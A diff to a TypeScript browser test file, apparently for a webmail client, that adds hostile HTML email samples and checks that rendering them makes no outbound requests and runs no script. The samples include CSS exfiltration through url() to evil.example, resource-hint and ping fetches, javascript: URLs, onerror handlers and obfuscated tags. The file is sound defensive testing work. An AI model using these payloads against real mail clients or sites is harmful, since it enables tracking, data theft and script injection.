@@ -1,16 +1,26 @@
 import { readFileSync } from "node:fs";
+import { createServer, type AddressInfo, type Server } from "node:net";
 import type { Browser, Page } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { connect, lastRow, launch, openPage, typeLines } from "./open-page.ts";
 
 let browser: Browser;
+/** Where hostile mail would like to be heard. */
+let listener: Server;
+let calls = 0;
 
 beforeAll(async () => {
   browser = await launch();
+  listener = createServer((socket) => {
+    calls++;
+    socket.destroy();
+  });
+  await new Promise<void>((ready) => listener.listen(0, "127.0.0.1", ready));
 });
 
 afterAll(async () => {
   await browser.close();
+  listener.close();
 });
 
 const axe = readFileSync("node_modules/axe-core/axe.min.js", "utf8");
@@ -78,10 +88,34 @@ const hostile: readonly (readonly [name: string, html: string])[] = [
     "<a id=document></a><form name=body><input name=attributes></form><img name=currentScript>",
   ],
   [
+    "styles that ask for what they find",
+    '<style>input[value^=a]{background:url(//evil.example/a)}@font-face{font-family:x;src:url(//evil.example/f)}:root{--x:url(//evil.example/v);content:var(--x)}</style><p style="background-image:image-set(url(//evil.example/i) 1x);list-style:url(//evil.example/l);cursor:url(//evil.example/c),auto;font-family:x">x</p><svg><style>*{fill:url(//evil.example/s)}</style></svg>',
+  ],
+  [
+    "hints to fetch",
+    "<link rel=preload as=image href=//evil.example/a><link rel=preconnect href=//evil.example><link rel=dns-prefetch href=//evil.example><link rel=modulepreload href=//evil.example/m.js><link rel=icon href=//evil.example/i><link rel=manifest href=//evil.example/w>",
+  ],
+  [
+    "pings and popups",
+    "<a href=//evil.example/ ping=//evil.example/ping target=_top>x</a><a href=//evil.example/ download autofocus onfocus=top.hit=1 tabindex=0>x</a><marquee onstart=top.hit=1>x</marquee><dialog open oncancel=top.hit=1>x</dialog><p popover id=p>x</p><button popovertarget=p>x</button>",
+  ],
+  [
+    "XML and processing instructions",
+    '<?xml-stylesheet href="//evil.example/x.xsl"?><xml><x xmlns:x="http://www.w3.org/1999/xhtml"><x:script>top.hit=1</x:script></x></xml><math href="javascript:top.hit=1"><maction actiontype=statusline xlink:href="javascript:top.hit=1">x</maction></math><annotation-xml encoding="text/html"><img src=x onerror=top.hit=1></annotation-xml>',
+  ],
+  [
+    "depth",
+    `${"<div>".repeat(3000)}<img src=x onerror=top.hit=1>${"</div>".repeat(3000)}${"<table><tr><td>".repeat(300)}<script>top.hit=1</script>`,
+  ],
+  [
     "words made of private characters",
     '<b>style= \ue000 onclick=</b><sty\ue000le>x</sty\ue000le><a href="java&#xe000;script:top.hit=1">x</a>',
   ],
 ];
+
+function portOf(server: Server): number {
+  return (server.address() as AddressInfo).port;
+}
 
 function mailOf(name: string, html: string): string {
   return [
@@ -91,7 +125,9 @@ function mailOf(name: string, html: string): string {
     'Content-Disposition: inline; filename="<img src=x onerror=top.hit=1>"',
     "",
     `<p>before</p>${html}<p>after</p>`,
-  ].join("\n");
+  ]
+    .join("\n")
+    .replaceAll("//evil.example", `//127.0.0.1:${portOf(listener)}`);
 }
 
 async function openInbox(page: Page): Promise<void> {
@@ -201,6 +237,7 @@ describe("hostile mail harms nobody", () => {
       await page.keyboard.press("ArrowUp");
       await page.keyboard.press("Enter");
     }
+    expect(calls).toBe(0);
     await close();
   });
 
@@ -214,7 +251,9 @@ describe("hostile mail harms nobody", () => {
     await openLast(page);
     const body = page.frameLocator("article iframe").locator("body");
     await body
-      .getByText("https://bank.example ⟨https://evil.example/login⟩")
+      .getByText(
+        `https://bank.example ⟨https://127.0.0.1:${portOf(listener)}/login⟩`,
+      )
       .waitFor();
     await body.getByText("https://bank.example").click();
     await page
@@ -230,6 +269,54 @@ describe("hostile mail harms nobody", () => {
     expectClean();
     await close();
   });
+});
+
+test("images of the message itself are shown, and nobody is asked for them", async () => {
+  const { page, expectClean, close } = await openPage(browser);
+  await openInbox(page);
+  const dot = "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7";
+  const image = (id: string, type: string) => [
+    "--x",
+    `Content-Type: ${type}`,
+    `Content-ID: <${id}>`,
+    "Content-Transfer-Encoding: base64",
+    "",
+    dot,
+  ];
+  const text = [
+    "Subject: images",
+    'Content-Type: multipart/related; boundary="x"',
+    "",
+    "--x",
+    "Content-Type: text/html",
+    "",
+    "<img src=cid:dot@x alt=dot><img src=cid:svg@x alt=svg><img src=cid:no@x alt=no>",
+    ...image("dot@x", "image/gif"),
+    ...image("svg@x", "image/svg+xml"),
+    "--x--",
+  ].join("\n");
+  await bring(page, [{ name: "x.eml", text }]);
+  await page.getByText("1 message delivered to INBOX.").waitFor();
+  await openLast(page);
+  const images = page.frameLocator("article iframe").locator("img");
+  await images.first().waitFor();
+  await expect
+    .poll(() =>
+      images.evaluateAll((all) =>
+        all.map((each) => [
+          each.getAttribute("alt"),
+          (each as HTMLImageElement).naturalWidth,
+        ]),
+      ),
+    )
+    .toEqual([
+      ["dot", 1],
+      ["svg", 0],
+      ["no", 0],
+    ]);
+  expect(await page.getByText("from elsewhere").count()).toBe(0);
+  expectClean();
+  await close();
 });
 
 describe("one's own mail", () => {
